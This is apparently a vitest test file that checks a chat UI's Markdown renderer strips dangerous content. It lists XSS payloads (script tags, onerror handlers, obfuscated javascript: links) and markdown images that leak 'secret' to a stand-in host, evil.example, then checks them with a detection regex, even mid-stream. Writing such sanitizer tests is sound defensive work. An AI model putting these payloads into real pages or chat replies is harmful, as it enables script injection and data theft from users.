import { TextMessagePartProvider } from "@assistant-ui/react";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "../../../chatui/src/chat/markdown.tsx";

function render(text: string): string {
  return renderToStaticMarkup(
    createElement(TextMessagePartProvider, { text, children: createElement(Markdown) }),
  );
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<form action=https://evil.example><input name=q></form>",
  "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "![x](https://evil.example/?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![x](https://evil.example/p.png)](https://ok.example)",
  "![x][y]\n\n[y]: https://evil.example/?q=secret",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "# <script>alert(1)</script>",
  "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
];

/** What the markup of a safe text may hold: no element that runs, loads or sends, no handler, no other scheme. */
function dangers(html: string): string[] {
  return [
    ...(html.match(
      /<(?:script|img|svg|iframe|style|form|input|math|object|embed|link|meta|base|video)\b/gi,
    ) ?? []),
    ...(html.match(/<[^>]*\s(?:on\w+|src|srcset|style|action|formaction|xlink:href)\s*=/gi) ?? []),
    ...[...html.matchAll(/href="([^"]*)"/gi)].flatMap(([, href = ""]) =>
      /^(?:https?:|mailto:)/.test(href) ? [] : [href],
    ),
  ];
}

test.each(PAYLOADS)("T37 T38 %j runs nothing, loads nothing and links nowhere odd", (payload) => {
  expect(dangers(render(payload))).toEqual([]);
});

test("T37 no part of a payload is dangerous while it streams in", () => {
  const found = PAYLOADS.flatMap((payload) =>
    Array.from(payload, (_, end) => dangers(render(payload.slice(0, end)))).flat(),
  );
  expect(found).toEqual([]);
});

test("a link opens elsewhere and tells nothing about where it was", () => {
  const html = render("See [the page](https://example.com/a).");
  expect(html).toContain('href="https://example.com/a"');
  expect(html).toContain('rel="noopener noreferrer ugc nofollow"');
  expect(html).toContain('target="_blank"');
});

test("an image is shown by its description only", () => {
  expect(render("![a cat](https://example.com/cat.png)")).toContain("[a cat]");
});
